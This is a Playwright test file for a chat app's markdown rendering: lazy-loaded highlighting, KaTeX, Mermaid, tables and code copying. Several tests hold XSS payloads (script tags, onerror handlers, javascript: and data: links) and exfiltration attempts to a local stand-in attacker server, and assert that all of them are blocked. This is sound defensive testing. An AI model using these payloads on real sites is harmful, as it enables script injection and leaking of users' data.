import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { ChatPage } from './chat-page';
import { accessCode } from './e2e-environment.mjs';
import { resetMock } from './mock-control';

/** A server that an answer might try to make the browser call, with whatever it leaks. */
interface Attacker {
  host: string;
  requests: Array<{ url: string; referer: string | undefined }>;
  close: () => Promise<void>;
}

async function startAttacker(): Promise<Attacker> {
  const requests: Attacker['requests'] = [];
  const server = createServer((request: IncomingMessage, response) => {
    requests.push({ url: request.url ?? '', referer: request.headers.referer });
    response.writeHead(204).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    host: `127.0.0.1:${port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** Every script and stylesheet the page loads, with its text, in order. */
function recordAssets(page: Page) {
  const loaded: Array<{ url: string; body: string }> = [];
  const reading: Array<Promise<void>> = [];
  // The context's responses include those of the page's workers (code is coloured in one).
  page.context().on('response', (response) => {
    const type = response.request().resourceType();
    const script = type === 'script' || new URL(response.url()).pathname.endsWith('.js');
    if (!script && type !== 'stylesheet') return;
    reading.push(
      response.text().then(
        (body) => void loaded.push({ url: response.url(), body }),
        () => undefined,
      ),
    );
  });
  return {
    /** Everything loaded so far, once its text has been read. */
    async settled() {
      await Promise.all(reading);
      return [...loaded];
    },
  };
}

/** Strings found only in each heavy renderer's own code. */
const rendererMarkers = {
  highlighter: 'ShikiError',
  katex: 'KaTeX parse error',
  katexStyles: 'KaTeX_Main',
  mermaid: 'mermaidAPI',
};

let attacker: Attacker;

test.beforeEach(async () => {
  await resetMock();
  attacker = await startAttacker();
});

test.afterEach(async () => {
  await attacker.close();
});

async function openChat(page: Page): Promise<ChatPage> {
  const chat = new ChatPage(page);
  await chat.openWithCode(accessCode, 'openrouter:deepseek/deepseek-r1');
  return chat;
}

async function answerWith(chat: ChatPage, markdown: string) {
  await chat.send(markdown);
  await chat.waitForAnswerStatus('done');
  return chat.lastAnswer.getByTestId('answer');
}

test('the first load carries no renderer; each arrives when an answer needs it', async ({
  page,
}) => {
  const assets = recordAssets(page);
  const chat = await openChat(page);
  await page.waitForLoadState('networkidle');
  const first = await assets.settled();
  expect(first.length).toBeGreaterThan(0);
  for (const [name, marker] of Object.entries(rendererMarkers)) {
    const carriers = first.filter((asset) => asset.body.includes(marker)).map((asset) => asset.url);
    expect(carriers, `${name} on the first load`).toEqual([]);
  }

  const answer = await answerWith(
    chat,
    'All three\n\n```python\nprint(1)\n```\n\n$x^2$\n\n```mermaid\ngraph TD\n  A --> B\n```\n\nend',
  );
  await expect(answer.getByTestId('code').first()).toHaveAttribute('data-highlighted', 'true');
  await expect(answer.locator('.katex')).toHaveCount(1);
  await expect(answer.locator('[data-testid="mermaid-diagram"] svg')).toBeVisible();
  const later = (await assets.settled()).slice(first.length);
  for (const [name, marker] of Object.entries(rendererMarkers)) {
    expect(
      later.some((asset) => asset.body.includes(marker)),
      `${name} loaded later`,
    ).toBe(true);
  }
});

test('GFM tables and task lists', async ({ page }) => {
  const chat = await openChat(page);
  const answer = await answerWith(
    chat,
    'Lists\n\n| name | value |\n| --- | ---: |\n| a | 1 |\n| b | 2 |\n\n- [x] done\n- [ ] to do\n\nend',
  );
  await expect(answer.locator('table th')).toHaveText(['name', 'value']);
  await expect(answer.locator('table tbody tr')).toHaveCount(2);
  const boxes = answer.locator('input[type="checkbox"]');
  await expect(boxes).toHaveCount(2);
  await expect(boxes.nth(0)).toBeChecked();
  await expect(boxes.nth(1)).not.toBeChecked();
  for (const box of await boxes.all()) await expect(box).toBeDisabled();
});

test('a code block names its language, is highlighted once loaded, and copies', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const chat = await openChat(page);
  const code = "def greet(name):\n    return f'hi {name}'\n\nprint(greet('you'))";
  const answer = await answerWith(chat, `Code\n\n\`\`\`python\n${code}\n\`\`\`\n\nend`);
  const block = answer.getByTestId('code-block');
  await expect(block.getByTestId('code-language')).toHaveText('python');
  await expect(block.getByTestId('code')).toHaveAttribute('data-highlighted', 'true');
  const colours = await block
    .locator('code span')
    .evaluateAll((spans) => spans.map((span) => (span as HTMLElement).style.color));
  expect(colours.filter((colour) => colour.startsWith('light-dark(')).length).toBeGreaterThan(3);
  await expect(block.getByTestId('code')).toHaveText(code);

  await block.getByTestId('copy-code').click();
  await expect(block.getByTestId('copy-code')).toHaveText('Copied');
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code);
  await expect(block.getByTestId('copy-code')).toHaveText('Copy');
});

test('inline and block math render with KaTeX and its stylesheet; prices stay text', async ({
  page,
}) => {
  const chat = await openChat(page);
  const answer = await answerWith(
    chat,
    'Math $E=mc^2$ and \\(a+b\\), at $5 and $10\n\n$$\n\\int_0^1 x\\,dx\n$$\n\n\\[\n\\sum_{n=1}^{9} n\n\\]\n\nend',
  );
  await expect(answer.locator('.katex')).toHaveCount(4);
  await expect(answer.locator('.katex-display')).toHaveCount(2);
  await expect(answer).toContainText('at $5 and $10');
  const font = await answer
    .locator('.katex')
    .first()
    .evaluate((element) => getComputedStyle(element).fontFamily);
  expect(font).toContain('KaTeX_Main');
});

test('a mermaid block becomes a diagram; its directives cannot fetch remote CSS', async ({
  page,
}) => {
  const chat = await openChat(page);
  const directive = `%%{init: {"themeCSS": "svg { background-image: url(http://${attacker.host}/css) }"}}%%`;
  const answer = await answerWith(
    chat,
    `Diagram\n\n\`\`\`mermaid\n${directive}\ngraph TD\n  Start --> Finish\n\`\`\`\n\n\`\`\`mermaid\nnot a diagram at all\n\`\`\`\n\nend`,
  );
  const diagram = answer.getByTestId('mermaid-diagram');
  await expect(diagram.locator('svg')).toBeVisible();
  await expect(diagram).toContainText('Finish');
  await expect(answer.getByTestId('mermaid-error')).toBeVisible();
  await expect(answer.getByTestId('code')).toContainText('not a diagram at all');
  expect(attacker.requests).toEqual([]);
});

test('a diagram follows the theme chosen in the settings, and headings stand out', async ({
  page,
}, info) => {
  const chat = await openChat(page);
  const answer = await answerWith(
    chat,
    'Intro\n\n# Plan\n\nSome body text.\n\n## Steps\n\n```mermaid\ngraph TD\n  Start --> Finish\n```\n\nend',
  );
  const diagram = answer.getByTestId('mermaid-diagram');
  await expect(diagram).toHaveAttribute('data-theme', 'light');
  const size = (selector: string) =>
    answer
      .locator(selector)
      .first()
      .evaluate((element) => parseFloat(getComputedStyle(element).fontSize));
  // A heading is larger than the text under it, not bold body text.
  expect(await size('h1')).toBeGreaterThan((await size('p')) * 1.3);
  expect(await size('h2')).toBeGreaterThan(await size('p'));
  await page.getByTestId('settings-button').click();
  await page.getByTestId('theme-select').selectOption('dark');
  await page.getByTestId('settings-close').click();
  // Drawn again in mermaid's dark theme, without a reload.
  await expect(diagram).toHaveAttribute('data-theme', 'dark');
  await page.screenshot({ path: info.outputPath('dark-diagram.png') });
});

test('hostile markdown runs nothing, loads nothing, and links only to http(s) or mailto', async ({
  page,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const chat = await openChat(page);
  const remote = `http://${attacker.host}`;
  const payloads = [
    '<script>window.__xss=1</script>',
    'inline <img src=x onerror="window.__xss=1"> html',
    '[click](javascript:window.__xss=1)',
    '[c](JaVaScRiPt:window.__xss=1)',
    '[c](  javascript:alert(1))',
    '<svg onload="window.__xss=1">',
    '[d](data:text/html,<script>alert(1)</script>)',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)',
    '<a href="javascript:window.__xss=1">a</a>',
    `<style>body{background:url(${remote}/css)}</style>`,
    `<iframe src="${remote}/frame"></iframe>`,
    '$\\href{javascript:window.__xss=1}{k}$',
    '[fine](https://example.com/safe) and <mailto:someone@example.com>',
  ];
  const answer = await answerWith(chat, `Battery\n\n${payloads.join('\n\n')}\n\nend`);
  await expect(answer.locator('.katex')).toHaveCount(1);

  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(dialogs).toEqual([]);
  for (const selector of ['script', 'iframe', 'style', 'img', 'svg', 'object', 'embed']) {
    await expect(answer.locator(selector), selector).toHaveCount(0);
  }
  const links = await answer
    .locator('a')
    .evaluateAll((anchors) =>
      anchors.map((anchor) => [anchor.getAttribute('href'), anchor.getAttribute('rel')]),
    );
  expect(links).toEqual([
    ['https://example.com/safe', 'noopener noreferrer nofollow'],
    ['mailto:someone@example.com', 'noopener noreferrer nofollow'],
  ]);
  expect(attacker.requests).toEqual([]);
});

test('a remote image is fetched only after a click on the placeholder naming its host', async ({
  page,
}) => {
  const chat = await openChat(page);
  const answer = await answerWith(
    chat,
    `Look\n\n![leak](http://${attacker.host}/pixel.png?secret=1)\n\nend`,
  );
  const placeholder = answer.getByTestId('image-placeholder');
  await expect(placeholder).toHaveText(`Show image from ${attacker.host}`);
  await expect(answer.locator('img')).toHaveCount(0);
  expect(attacker.requests).toEqual([]);

  await placeholder.click();
  const image = answer.locator('img');
  await expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
  await expect
    .poll(() => image.evaluate((element: HTMLImageElement) => element.complete))
    .toBe(true);
  expect(attacker.requests).toEqual([{ url: '/pixel.png?secret=1', referer: undefined }]);
});

test('an HTML block previews in a sandbox without same-origin, offline', async ({ page }) => {
  const chat = await openChat(page);
  const remote = `http://${attacker.host}`;
  const html = [
    `<img src="${remote}/img" onerror="document.body.dataset.image = 'blocked'">`,
    '<p id="made">static</p>',
    '<script>',
    "document.getElementById('made').textContent = 'scripted';",
    "try { parent.document.title = 'pwned'; } catch { document.body.dataset.parent = 'blocked'; }",
    `fetch('${remote}/fetch').catch(() => { document.body.dataset.fetch = 'blocked'; });`,
    '</script>',
  ].join('\n');
  const answer = await answerWith(chat, `Page\n\n\`\`\`html\n${html}\n\`\`\`\n\nend`);
  await expect(answer.getByTestId('code-language')).toHaveText('html');
  await answer.getByTestId('html-preview-toggle').click();

  const frame = answer.getByTestId('html-preview');
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
  const inside = frame.contentFrame();
  await expect(inside.locator('#made')).toHaveText('scripted');
  await expect(inside.locator('body')).toHaveAttribute('data-parent', 'blocked');
  await expect(inside.locator('body')).toHaveAttribute('data-fetch', 'blocked');
  await expect(inside.locator('body')).toHaveAttribute('data-image', 'blocked');
  expect(await page.title()).not.toBe('pwned');
  expect(attacker.requests).toEqual([]);

  await answer.getByTestId('html-preview-toggle').click();
  await expect(answer.getByTestId('html-preview')).toHaveCount(0);
  await expect(answer.getByTestId('code')).toContainText("getElementById('made')");
});

test('while an answer streams, its finished blocks are neither re-rendered nor re-created', async ({
  page,
}) => {
  const chat = new ChatPage(page);
  await chat.openWithCode(accessCode, 'openrouter:mock/slow-reasoning');
  await chat.send(
    'Stable\n\n- [x] done\n\n```js\nconst kept = true;\n```\n\nand then a few more words stream in after the code block',
  );
  const answer = chat.lastAnswer.getByTestId('answer');
  await expect(answer).toContainText('and then');
  await expect(chat.lastAnswer).toHaveAttribute('data-status', 'streaming');
  // A re-created element would lose the mark. A re-render would set the checkbox back to its
  // checked prop, so unticking it by hand shows the block did not render again.
  for (const element of [answer.locator('p').first(), answer.getByTestId('code-block')]) {
    await element.evaluate((node) => node.setAttribute('data-mark', 'kept'));
  }
  const box = answer.locator('input[type="checkbox"]');
  await box.evaluate((input: HTMLInputElement) => (input.checked = false));
  await chat.waitForAnswerStatus('done');
  await expect(answer).toContainText('after the code block. ✓');
  await expect(answer.locator('[data-mark="kept"]')).toHaveCount(2);
  await expect(box).not.toBeChecked();
});
